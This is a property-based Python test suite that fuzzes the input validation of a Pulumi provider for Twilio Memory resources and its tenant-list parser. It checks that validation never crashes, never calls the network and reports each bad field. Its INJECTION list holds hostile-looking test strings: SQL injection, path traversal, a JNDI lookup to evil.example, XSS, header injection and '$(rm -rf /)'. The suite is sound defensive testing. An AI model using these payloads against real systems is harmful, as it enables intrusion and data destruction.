"""Hostile and malformed input, property-based, over every resource's ``check()``.

Someone pastes a bad value into a tenant list. What must hold for *any* JSON-like input:

* ``check()`` never raises and never makes an HTTP request (a request would also be a credential
  on the wire during `pulumi preview`);
* every failure names a property the user wrote (or ``""`` only for provider configuration) and
  says what is allowed;
* a documented-invalid value in one field (wrong type, pattern, length, enum, range; huge, unicode
  and injection-looking strings) yields a failure on that field, while the other fields stay valid.

The number of examples comes from the profile (``quick``/``full``) and is reported.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pulumi_twilio_memory import config
from pulumi_twilio_memory.resources._base import BaseProvider, clear_client_cache
from pulumi_twilio_memory.resources._results import CheckResult
from pulumi_twilio_memory.resources.conversation_configuration import ConversationConfigurationProvider
from pulumi_twilio_memory.resources.data_mapping import DataMappingProvider
from pulumi_twilio_memory.resources.identity_resolution import IdentityResolutionSettingsProvider
from pulumi_twilio_memory.resources.store import StoreProvider
from pulumi_twilio_memory.resources.trait_group import TraitGroupProvider
from rel_support import FIGURES, PROFILE

pytestmark = pytest.mark.reliability

PROPERTY = settings(
    max_examples=PROFILE.examples,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
STORE_ID = "mem_store_01k1etk2y5f1y9fpe2epfdtvv2"
SECRET = "hostile-input-api-secret-value"

#: A valid input per resource: each property mutates exactly one field of it.
VALID: dict[type[BaseProvider], dict[str, Any]] = {
    StoreProvider: {"display_name": "client-acme", "description": "Acme support memory"},
    TraitGroupProvider: {
        "store_id": STORE_ID,
        "display_name": "Preferences",
        "description": "What the customer likes",
        "traits": {"tier": {"data_type": "STRING", "description": "loyalty tier"}},
    },
    IdentityResolutionSettingsProvider: {
        "store_id": STORE_ID,
        "identifier_configs": [{"id_type": "email", "matching_algo": "exact", "normalization": "email"}],
        "matching_rules": ["email"],
    },
    DataMappingProvider: {
        "store_id": STORE_ID,
        "display_name": "crm-import",
        "mapping_from": {"type": "INGRESS", "columns": ["tier"]},
        "mapping_to": [{"expression": "$.tier", "trait_group": "Preferences", "trait_name": "tier"}],
    },
    ConversationConfigurationProvider: {
        "display_name": "acme",
        "description": "Acme conversations",
        "conversation_grouping_type": "GROUP_BY_PARTICIPANT_ADDRESSES",
        "memory_store_id": STORE_ID,
    },
}
PROVIDERS = list(VALID)

INJECTION = [
    "'; DROP TABLE stores; --",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "$(rm -rf /)",
    "a\u0000b",
    "name\r\nX-Injected: 1",
    "%2e%2e%2f",
    "\u202egnp.exe",
    "mem_store_01k1etk2y5f1y9fpe2epfdtvv2/../../Stores",
]
huge = st.integers(min_value=1_000, max_value=200_000).map(lambda n: "x" * n)
weird_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), min_size=0, max_size=300
)  # any unicode, emoji, RTL, NUL
hostile_strings = st.one_of(st.sampled_from(INJECTION), huge, weird_text, st.just(""), st.just(" "))
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**80), max_value=2**80),
    st.floats(allow_nan=True, allow_infinity=True),
    hostile_strings,
)
json_like = st.recursive(
    scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=5),
        st.dictionaries(st.one_of(hostile_strings, st.text(max_size=20)), children, max_size=5),
    ),
    max_leaves=25,
)


def _known_keys(provider: type[BaseProvider]) -> list[str]:
    return [*provider.inputs_model.model_fields, "__provider", *provider.output_fields]


@pytest.fixture
def guarded(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Credentials configured (so check() validates inputs, not config) and every HTTP request
    recorded and refused."""
    for name in config.ENVIRONMENT_VARIABLES:
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("TWILIO_API_KEY", "SK" + "0" * 32)
    monkeypatch.setenv("TWILIO_API_SECRET", SECRET)
    monkeypatch.setenv("TWILIO_MEMORY_BASE_URL", "http://127.0.0.1:9")
    monkeypatch.setenv("TWILIO_CONVERSATIONS_BASE_URL", "http://127.0.0.1:9")
    config.reset()
    clear_client_cache()
    requests: list[str] = []

    def refuse(self: Any, request: httpx.Request, *args: Any, **kwargs: Any) -> httpx.Response:
        requests.append(f"{request.method} {request.url}")
        raise httpx.ConnectError("HTTP is not allowed in check()", request=request)

    monkeypatch.setattr(httpx.HTTPTransport, "handle_request", refuse)
    yield requests
    config.reset()
    clear_client_cache()


def _names_one_of(prop: str, names: list[str]) -> bool:
    """``prop`` is one of ``names`` or a path inside one (``traits.tier``, ``identifier_configs[0]``).
    A clipped path (``xxxx…(100000 characters)``, see ``clip_long_words``) is matched by its start."""
    if "…(" in prop:
        head = prop.split("…(", 1)[0]
        return any(n.startswith(head) or head.startswith((f"{n}.", f"{n}[")) for n in names)
    return any(prop == n or prop.startswith((f"{n}.", f"{n}[")) for n in names)


def run_check(provider: type[BaseProvider], news: dict[str, Any], requests: list[str]) -> CheckResult:
    """check() as the engine calls it; asserts what must hold for every input."""
    try:
        result = provider().check({}, dict(news))
    except Exception as exc:  # the property: nothing escapes
        raise AssertionError(f"{provider.__name__}.check raised {type(exc).__name__}: {exc}") from exc
    assert isinstance(result, CheckResult)
    assert requests == [], f"check() made HTTP requests: {requests}"
    for failure in result.failures or []:
        assert isinstance(failure.property, str) and isinstance(failure.reason, str)
        assert failure.reason.strip(), failure
        assert SECRET not in failure.reason
        names = [*news, *provider.inputs_model.model_fields]
        assert failure.property == "" or _names_one_of(failure.property, names), (failure.property, names)
    json.dumps([f.reason for f in result.failures or []])  # serializable for the engine
    FIGURES.add("hostile_inputs_tried")
    return result


@pytest.mark.parametrize("provider", PROVIDERS, ids=lambda p: p.__name__)
@PROPERTY
@given(data=st.data())
def test_check_never_raises_nor_calls_http_for_any_json_like_input(
    provider: type[BaseProvider], data: st.DataObject, guarded: list[str]
) -> None:
    keys = st.one_of(st.sampled_from(_known_keys(provider)), hostile_strings)
    news = data.draw(st.dictionaries(keys, json_like, max_size=8), label="inputs")
    run_check(provider, news, guarded)


@pytest.mark.parametrize("provider", PROVIDERS, ids=lambda p: p.__name__)
@PROPERTY
@given(data=st.data())
def test_one_hostile_field_in_valid_inputs_never_crashes(
    provider: type[BaseProvider], data: st.DataObject, guarded: list[str]
) -> None:
    """Valid inputs with one field replaced by anything at all: failures, if any, are on that field."""
    base = dict(VALID[provider])
    field = data.draw(st.sampled_from(sorted(provider.inputs_model.model_fields)), label="field")
    base[field] = data.draw(json_like, label="value")
    if base[field] is None:
        del base[field]
    result = run_check(provider, base, guarded)
    for failure in result.failures or []:
        assert failure.property == "" or _names_one_of(failure.property, [field]), (field, failure.property)


def _invalid_values() -> dict[type[BaseProvider], dict[str, st.SearchStrategy[Any]]]:
    """Per resource and field: values that break a documented constraint (docs/wire-protocol.md)."""
    not_a_string = st.one_of(
        st.integers(),
        st.booleans(),
        st.lists(st.text(max_size=3), max_size=2),
        st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
    )
    bad_store_name = st.one_of(
        st.sampled_from(INJECTION),
        huge,
        st.just(""),
        st.text(min_size=65, max_size=80, alphabet="abc"),
        st.text(min_size=1, max_size=20).filter(
            lambda s: any(not (c.isascii() and (c.isalnum() or c == "-")) for c in s)
        ),
        not_a_string,
    )
    bad_store_id = st.one_of(
        st.sampled_from(INJECTION),
        huge,
        st.just("mem_store_"),
        st.just("mem_store_9" + "a" * 25),
        not_a_string,
    )
    bad_enum = st.one_of(
        st.sampled_from(INJECTION),
        st.text(max_size=30).filter(
            lambda s: (
                s.upper()
                not in {
                    "GROUP_BY_PROFILE",
                    "GROUP_BY_PARTICIPANT_ADDRESSES",
                    "GROUP_BY_PARTICIPANT_ADDRESSES_AND_CHANNEL_TYPE",
                }
            )
        ),
        not_a_string,
    )
    return {
        DataMappingProvider: {
            "store_id": bad_store_id,
            "display_name": st.one_of(
                st.sampled_from(INJECTION), huge, st.just(""), st.just("9starts-with-a-digit"), not_a_string
            ),
            "mapping_from": st.one_of(
                st.just({"type": "INGRESS"}),
                st.just({"type": "INGRESS", "columns": []}),
                st.just({"type": "DATASET_WAREHOUSE"}),
                st.just({"type": "DATASET_CLOUDAPP", "dataset_id": "not-a-dataset"}),
                st.sampled_from(INJECTION).map(lambda s: {"type": s, "columns": ["a"]}),
                not_a_string,
            ),
            "mapping_to": st.one_of(
                st.just([]),
                st.just([{"expression": "", "trait_group": "Preferences", "trait_name": "tier"}]),
                st.just([{"expression": "$.a", "trait_group": "no spaces!", "trait_name": "tier"}]),
                st.just([{"expression": "$.a", "trait_group": "Preferences"}]),
                st.integers(),
            ),
        },
        StoreProvider: {
            "display_name": bad_store_name,
            "description": st.one_of(
                st.just(""), st.text(min_size=129, max_size=400, alphabet="ab🙂"), huge, not_a_string
            ),
        },
        TraitGroupProvider: {
            "display_name": st.one_of(
                st.just(""),
                st.text(min_size=65, max_size=90, alphabet="ab"),
                st.sampled_from(INJECTION[:6]),
                not_a_string,
            ),
            "store_id": bad_store_id,
            "traits": st.one_of(
                st.just({f"t{i}": {"data_type": "STRING"} for i in range(96)}),
                st.dictionaries(
                    st.sampled_from(["__", "-", "/", " ", "..."]),
                    st.just({"data_type": "STRING"}),
                    min_size=1,
                    max_size=2,
                ),
                st.just({"tier": {"data_type": "TEXT"}}),
                st.just(
                    {
                        "tier": {
                            "data_type": "STRING",
                            "validation_rule": {"rule_type": "NUMBER", "min": 5, "max": 1},
                        }
                    }
                ),
                st.just({"tier": {}}),
                st.sampled_from(INJECTION).map(lambda s: {"tier": {"data_type": s}}),
                not_a_string.filter(lambda v: not isinstance(v, dict)),
            ),
            "description": st.one_of(st.text(min_size=1025, max_size=1100, alphabet="ab"), not_a_string),
        },
        IdentityResolutionSettingsProvider: {
            "store_id": bad_store_id,
            "identifier_configs": st.one_of(
                st.just([]),
                st.just([{"id_type": "email"}] * 16),
                st.just([{"id_type": "e"}]),
                st.just([{"id_type": "email", "limit": 0}]),
                st.just([{"id_type": "email", "limit": 101}]),
                st.just([{"id_type": "email", "matching_algo": "EXACTLY"}]),
                st.just([{"id_type": "email", "normalization": "lowercase"}]),
                st.just([{"id_type": "email", "matching_threshold": 49}]),
                st.sampled_from(INJECTION).map(lambda s: [{"id_type": "email", "limit_policy": s}]),
                not_a_string.filter(lambda v: not isinstance(v, list) or v),
            ),
            "matching_rules": st.one_of(
                st.just([]),
                st.just(["email"] * 16),
                st.just(["x" * 31]),
                st.just(["phone"]),
                not_a_string.filter(lambda v: not isinstance(v, list)),
            ),
        },
        ConversationConfigurationProvider: {
            "display_name": st.one_of(
                st.just(""),
                st.text(min_size=33, max_size=60, alphabet="ab"),
                st.sampled_from(INJECTION),
                not_a_string,
            ),
            "conversation_grouping_type": bad_enum,
            "memory_store_id": bad_store_id,
            "status_callbacks": st.one_of(
                st.just([{"url": "notaurl"}]),
                st.just([{"url": "https://example.com/a"}] * 3),
                st.just([{"url": "https://example.com/a", "method": "TRACE"}]),
                not_a_string.filter(lambda v: not isinstance(v, list)),
            ),
            "intelligence_configuration_ids": st.one_of(st.just(["a"] * 6), st.integers()),
            "channel_settings": st.one_of(
                st.just({"FAX": {}}),
                st.just({"SMS": {"status_timeouts": {"inactive": 0}}}),
                st.just({"CHAT": {"capture_rules": [{"from": "*"}]}}),
                st.integers(),
            ),
            "conversations_v1_bridge": st.one_of(
                st.just({"service_id": "IS123"}),
                st.just({}),
                st.sampled_from(INJECTION).map(lambda s: {"service_id": s}),
            ),
        },
    }


INVALID = _invalid_values()
CASES = [(provider, name) for provider, fields in INVALID.items() for name in fields]


@pytest.mark.parametrize(("provider", "field"), CASES, ids=lambda v: getattr(v, "__name__", v))
@PROPERTY
@given(data=st.data())
def test_an_invalid_field_is_reported_on_that_field(
    provider: type[BaseProvider], field: str, data: st.DataObject, guarded: list[str]
) -> None:
    news = dict(VALID[provider])
    news[field] = data.draw(INVALID[provider][field], label=field)
    result = run_check(provider, news, guarded)
    on_field = [f for f in result.failures or [] if _names_one_of(f.property, [field])]
    assert on_field, f"{provider.__name__}: {field}={news[field]!r:.200} passed check: {result.failures}"
    FIGURES.add("invalid_inputs_rejected_by_check")


@pytest.mark.parametrize("provider", PROVIDERS, ids=lambda p: p.__name__)
def test_valid_bases_pass(provider: type[BaseProvider], guarded: list[str]) -> None:
    """The bases above are valid (otherwise the properties prove nothing)."""
    assert run_check(provider, VALID[provider], guarded).failures == []


HUGE = "x" * 100_000
HUGE_CASES = [
    (StoreProvider, "display_name", HUGE),
    (StoreProvider, "description", HUGE),
    (TraitGroupProvider, "display_name", HUGE),
    (TraitGroupProvider, "store_id", HUGE),
    pytest.param(
        TraitGroupProvider, "traits", {HUGE: {"data_type": "TEXT"}}, id="TraitGroupProvider-traits-huge-key"
    ),
    (TraitGroupProvider, "traits", {"tier": {"data_type": HUGE}}),
    (IdentityResolutionSettingsProvider, "matching_rules", [HUGE]),
    (IdentityResolutionSettingsProvider, "identifier_configs", [{"id_type": HUGE}]),
    (ConversationConfigurationProvider, "display_name", HUGE),
    (ConversationConfigurationProvider, "conversation_grouping_type", HUGE),
    pytest.param(
        ConversationConfigurationProvider,
        "channel_settings",
        {HUGE: {}},
        id="ConversationConfigurationProvider-channel_settings-huge-key",
    ),
]


@pytest.mark.parametrize(
    ("provider", "field", "value"), HUGE_CASES, ids=lambda v: getattr(v, "__name__", str(v)[:20])
)
def test_a_huge_pasted_value_is_not_echoed_back_whole(
    provider: type[BaseProvider], field: str, value: Any, guarded: list[str]
) -> None:
    """A 100 kB paste is rejected on its field, and the message stays readable (not 100 kB)."""
    news = {**VALID[provider], field: value}
    result = run_check(provider, news, guarded)
    assert any(_names_one_of(f.property, [field]) for f in result.failures), result.failures
    longest = max(len(f.property) + len(f.reason) for f in result.failures)
    assert longest < 2_000, f"a {longest}-character check failure for {field}"


# -- the tenant document of the onboarding program ------------------------------------------------

tenant_entries = st.fixed_dictionaries(
    {"name": st.one_of(st.sampled_from(["acme", "globex"]), hostile_strings)},
    optional={
        "displayName": st.one_of(hostile_strings, json_like),
        "description": st.one_of(hostile_strings, json_like),
        "templates": st.one_of(st.lists(st.one_of(st.just("Prefs"), hostile_strings), max_size=3), json_like),
        "traitGroups": json_like,
        "identityResolution": st.one_of(st.just(False), json_like),
        "conversation": st.one_of(st.just(False), json_like),
        "adopt": json_like,
        "unknownKey": json_like,
    },
)
documents = st.fixed_dictionaries(
    {"tenants": st.one_of(st.lists(tenant_entries, max_size=17), json_like)},
    optional={
        "namePrefix": st.one_of(hostile_strings, json_like),
        "maxStores": json_like,
        "traitGroupTemplates": st.one_of(
            st.just({"Prefs": {"traits": {"tier": {"dataType": "STRING"}}}}),
            st.dictionaries(hostile_strings, json_like, max_size=2),
        ),
        "defaults": json_like,
    },
)


@PROPERTY
@given(document=documents)
def test_any_tenant_document_resolves_or_lists_its_problems(document: dict[str, Any]) -> None:
    """Whatever is pasted into the tenant list, the program either resolves it or raises one
    TenantConfigurationError listing problems, before any resource exists; never a crash."""
    from pulumi_twilio_memory.components.fleet import resolve_fleet
    from pulumi_twilio_memory.components.tenant import TenantConfigurationError

    FIGURES.add("tenant_documents_tried")
    try:
        tenants = resolve_fleet(document)
    except TenantConfigurationError as exc:
        assert exc.problems and all(isinstance(p, str) and p for p in exc.problems)
        FIGURES.add("tenant_documents_rejected")
        return
    except Exception as exc:
        raise AssertionError(f"resolve_fleet raised {type(exc).__name__}: {exc}") from exc
    assert len(tenants) <= 15


@pytest.mark.timeout(60)  # a hang guard, not a speed assertion: before the fix this took hours
@pytest.mark.parametrize("where", ["name", "displayName", "description", "traitGroups"])
def test_a_megabyte_pasted_into_the_tenant_list_is_rejected_not_hung(where: str) -> None:
    from pulumi_twilio_memory.components.fleet import resolve_fleet
    from pulumi_twilio_memory.components.tenant import TenantConfigurationError

    paste = "x" * 1_000_000
    entry: dict[str, Any] = {"name": "acme"}
    entry[where] = {paste: {"traits": {}}} if where == "traitGroups" else paste
    with pytest.raises(TenantConfigurationError) as info:
        resolve_fleet({"tenants": [entry]})
    assert info.value.problems
    FIGURES.add("tenant_documents_tried")
    FIGURES.add("tenant_documents_rejected")
